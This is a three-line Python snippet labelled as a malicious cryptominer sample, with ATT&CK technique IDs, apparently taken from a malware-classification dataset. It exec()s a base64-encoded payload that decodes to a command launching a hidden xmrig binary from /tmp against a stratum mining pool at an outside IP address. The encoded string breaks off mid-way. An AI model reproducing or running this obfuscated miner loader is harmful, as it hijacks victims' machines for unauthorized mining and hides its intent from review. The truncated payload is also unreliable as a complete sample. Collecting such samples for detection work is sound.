# label: malicious family=miner techniques=T1027,T1059.004,T1059.006,T1140,T1496 lines=3
import base64,os
exec(base64.b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgiL3RtcC8ueC94bXJpZyAtbyBzdHJhdHVtK3RjcDovLzIwMy4wLjExMy45OTozMz
